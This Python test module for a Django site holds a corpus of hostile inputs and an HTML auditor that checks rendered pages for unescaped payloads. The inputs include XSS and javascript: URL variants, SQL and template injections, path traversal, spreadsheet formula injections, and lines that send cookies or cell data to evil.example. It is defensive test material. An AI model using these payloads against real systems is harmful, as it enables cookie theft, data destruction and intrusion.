"""A corpus of hostile inputs, pushed through the admin forms, the figure parser, the public
URLs' parameters and the import (tests/hostile/test_*.py).

Each entry is ``(kind, value)``. ``value`` is a ``str``, or ``bytes`` for input that is not valid
UTF-8 (sent as raw bytes; Django decodes it with replacement characters).
"""

import itertools
import re
from urllib.parse import urlsplit

from lxml import etree

MEGABYTE = 1024 * 1024

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<script type=module>import('//evil.example')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script>/*",
    "*/alert(1)</script>",
]
HANDLERS = [
    f"<{tag} {attr}=alert(1)>"
    for tag, attr in [
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("iframe src=x", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("div", "onmouseover"),
        ("a href=#", "onclick"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("object data=x", "onerror"),
        ("img src=x", "OnErRoR"),
        ("svg/", "onload"),
    ]
] + [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<object data="javascript:alert(1)">',
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<img src=`x`onerror=alert(1)>",
    "<x onpointerenter=alert(1)>hover</x>",
]

# URL schemes a browser would run, in the spellings that slip past naive checks.
_CONTROL = ["", "\x00", "\x01", "\t", "\n", "\r", " ", "\x0b", "\x0c", "\x1f", "\u200b"]
_CASES = ["javascript", "JAVASCRIPT", "JavaScript", "jAvAsCrIpT"]
DANGEROUS_URLS = (
    [
        f"{lead}{scheme[:4]}{mid}{scheme[4:]}:alert(1)"
        for (lead, mid), scheme in itertools.product(
            [("", ""), (" ", ""), ("\x00", ""), ("", "\t"), ("", "\n"), ("\x01", "\r")], _CASES
        )
    ]
    + [f"{ctrl}javascript:alert(1)" for ctrl in _CONTROL]
    + [f"java{ctrl}script:alert(1)" for ctrl in _CONTROL]
    + [
        "javascript://%0aalert(1)",
        "javascript://https://example.org/%0Aalert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "Data:image/svg+xml,<svg onload=alert(1)>",
        " data:text/html,x",
        "\x00data:text/html,x",
        "d\tata:text/html,x",
        "data:,alert(1)",
        "file:///etc/passwd",
        "ftp://example.org/x",
        "mailto:someone@example.org",
        "tel:+123456",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "/\\evil.example",
        "https:evil.example",
        "http:/evil.example",
        "https://",
        "https://exa mple.org/",
        "https://example.org/<script>",
        'https://example.org/"onmouseover="alert(1)',
        "https://example.org/'><script>alert(1)</script>",
        "https://user:pass@example.org/",
        "https://example.org:99999/",
        "https://[::1/",
        "https://example.org/" + "a" * 5000,
        "http://127.0.0.1:5432/",
        "https://xn--80ak6aa92e.com/",
        "https://еxample.org/",  # Cyrillic е
        "ht\x00tps://example.org/",
    ]
)
NUL = [
    "\x00",
    "a\x00b",
    "\x00\x00\x00",
    "3,825\x00",
    "\x00<script>alert(1)</script>",
    "name\x00.csv",
    "%00",
    "\\0",
    "\\x00",
    "admin\x00",
    "seed-001\x00",
    "2020-10-17\x00",
    "\x00" * 1000,
    "\ufeff\x00",
    "\u0000end",
]
BIDI = [
    "\u202egnp.exe",
    "Stepanakert\u202e / Khankendi",
    "\u202dLTR override",
    "\u202aembedding\u202c",
    "\u2066isolate\u2069",
    "\u2067rtl isolate",
    "\u2068first strong",
    "\u200fRLM\u200e",
    "\u061c arabic letter mark",
    "\u200b\u200c\u200d zero widths",
    "\u2060word joiner",
    "\ufeffBOM inside",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "Z̸̢̧̛̛̗̫̥̱̺̮̠̯̞̹̪̰̖͚͎̩̫̲͖̫͓̟̙̹̺͍̘̥̲̮ͅa̷l̵g̷o̴",
    "\u202e<script>alert(1)</script>",
    "ﬁgure",  # ligature
    "Ａｄｍｉｎ",  # fullwidth
    "Ստեփանակերտ",
    "Xankəndi",
    "Степанакерт",
]
HUGE = [
    "x" * MEGABYTE,
    "<script>" * (MEGABYTE // 8),
    "3" * MEGABYTE,
    "Ա" * (MEGABYTE // 2),
]
BAD_UTF8 = [
    b"\xff\xfe\xfd",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xe2\x82\x28",
    b"\xf0\x28\x8c\xbc",
    b"\xf0\x90\x28\xbc",
    b"\xf8\xa1\xa1\xa1\xa1",
    b"\xfc\xa1\xa1\xa1\xa1\xa1",
    b"\xed\xa0\x80",  # an encoded surrogate
    b"\xc0\xaf",  # overlong '/'
    b"\xe0\x80\xaf",
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    b"\xcf\xf0\xe8\xe2\xe5\xf2",  # cp1251 for a Russian word
    b"caf\xe9",  # latin-1
    b"\x80",
    b"3,825\xff",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "'=1+1",
    "''=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://evil.example")',
    "%0A=1+1",
    "=" * 50,
    "-",
    "+",
    "@",
    "=",
    "-5",
    "+7,630",
]
SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE claims_claim; --",
    "1; DELETE FROM auth_user",
    "admin'--",
    "' UNION SELECT username, password FROM auth_user --",
    "1' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1)) OR ((1=1",
    "%' OR '%'='",
    "' OR ''='",
    "\\'; DROP TABLE x; --",
    "1 OR 1=1",
    "'||(SELECT version())||'",
    "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "ATTACH DATABASE '/tmp/x.db' AS x; --",
    "' AND extractvalue(1,concat(0x7e,version())) --",
    "$$; DROP TABLE x; $$",
    "E'\\x27'",
    "';--",
    "/**/OR/**/1=1",
    "__import__('os').system('id')",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "header\r\nSet-Cookie: x=1",
    "line\nbreak",
    "%0d%0aLocation:%20https://evil.example",
]
NUMBERS = [
    "9" * 400,
    "1" + "0" * 30,
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "2147483648",
    "-1",
    "-0",
    "0",
    "1e309",
    "1e-309",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "0x7FFFFFFF",
    "1_000_000",
    "١٢٣",  # Arabic-Indic digits
    "१२३",  # Devanagari digits
    "３８２５",  # fullwidth digits
    "3,825,",
    "3..825",
    "1,2,3,4,5,6,7,8,9,0",
    "999,999,999,999,999,999,999",
    "up to " + "9" * 100,
    "more than -5",
    "between 400 and 300",
    "300 to 400 to 500",
    "US$" + "9" * 60 + " billion",
    "a" * 10_000,
    "one " * 5000,
    "²",
    "½",
    "Ⅻ",
]
DATES = [
    "0000-00-00",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "9999-12-32",
    "10000-01-01",
    "-0001-01-01",
    "2020-02-30",
    "2020-13-01",
    "2020-00-10",
    "2020-10-17T00:00:00",
    "2020-10-17 25:61:61",
    "17/10/2020",
    "10/17/2020",
    "17.10.2020",
    "2020/10/17",
    "20201017",
    "2020-W42",
    "1899-12-31",
    "2100-01-01",
    "1970-01-01",
    "2038-01-19",
    "today",
    "2020-10-17; DROP TABLE x",
    "２０２０-１０-１７",
    "2020-10-17\u202e",
    " 2020-10-17 ",
]

CORPUS: list[tuple[str, str | bytes]] = [
    *(("script", v) for v in SCRIPT),
    *(("handler", v) for v in HANDLERS),
    *(("url", v) for v in DANGEROUS_URLS),
    *(("nul", v) for v in NUL),
    *(("bidi", v) for v in BIDI),
    *(("huge", v) for v in HUGE),
    *(("bad-utf8", v) for v in BAD_UTF8),
    *(("formula", v) for v in FORMULAS),
    *(("sql", v) for v in SQL),
    *(("number", v) for v in NUMBERS),
    *(("date", v) for v in DATES),
]
# Without the 1 MB strings: for loops that multiply the corpus by many forms or pages.
CORPUS_SMALL = [(kind, value) for kind, value in CORPUS if kind != "huge"]


def as_text(value: str | bytes) -> str:
    """What a server sees after decoding: invalid UTF-8 becomes replacement characters."""
    return value.decode("utf-8", errors="replace") if isinstance(value, bytes) else value


def ids(entries) -> list[str]:
    return [f"{i:03d}-{kind}" for i, (kind, _) in enumerate(entries)]


# --- what a rendered page must not contain -------------------------------------------------

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
_STRIPPED = re.compile(r"[\x00-\x20\u200b\u00ad]")


def _scheme(url: str) -> str:
    # Browsers drop leading/trailing spaces and control characters, and tabs/newlines anywhere.
    cleaned = _STRIPPED.sub("", url).lower()
    if ":" not in cleaned.split("/", 1)[0]:
        return ""  # relative
    return urlsplit(cleaned).scheme


def _elsewhere(url: str) -> bool:
    """Another host without a scheme ("//host/x.js"; browsers read backslashes as slashes)."""
    return _STRIPPED.sub("", url).replace("\\", "/").startswith("//")


class _Audit:
    """The target of lxml's HTML parser (libxml2, in C: the pure-Python ``html.parser`` took up
    to a tenth of the hostile sweeps' time), told every start tag with its attributes."""

    def __init__(self):
        self.problems: list[str] = []

    def start(self, tag, attrib):
        self.handle_starttag(tag, list(attrib.items()))

    def close(self):
        return self.problems

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag}> has an event handler {name}={value!r}")
            if name in _URL_ATTRIBUTES and value is not None and value != "data:,":
                # ("data:," is the empty favicon: no content, nothing to run)
                scheme = _scheme(value)
                if scheme not in ("", "http", "https"):
                    self.problems.append(f"<{tag} {name}={value!r}> is a {scheme}: link")
            if name == "style" and value and "url(" in value.lower():
                self.problems.append(f"<{tag}> has a style with a url(): {value!r}")
        if tag == "script":
            attributes = dict(attrs)
            src, kind = attributes.get("src"), attributes.get("type", "")
            if not src and kind != "application/json":
                self.problems.append("an inline <script>")
            elif src and (_scheme(src) or _elsewhere(src)):
                self.problems.append(f"a script from elsewhere: {src!r}")
        if tag in {"iframe", "object", "embed", "base", "meta", "frame", "frameset"} and (
            tag != "meta" or any(n == "http-equiv" for n, _ in attrs)
        ):
            self.problems.append(f"an unexpected <{tag}>")


def audit_html(html: str, *payloads: str) -> list[str]:
    """Problems hostile payloads could cause in a page: event handlers, script links, inline
    scripts, frames; and any of the payloads appearing unescaped. The page is parsed once,
    however many payloads are looked for."""
    audit = _Audit()
    parser = etree.HTMLParser(target=audit, huge_tree=True)
    parser.feed(html)
    problems = parser.close()
    for payload in payloads:
        if any(c in payload for c in "<>") and len(payload) < 50_000 and payload in html:
            problems.append(f"the payload {payload[:60]!r} is in the page unescaped")
    return problems
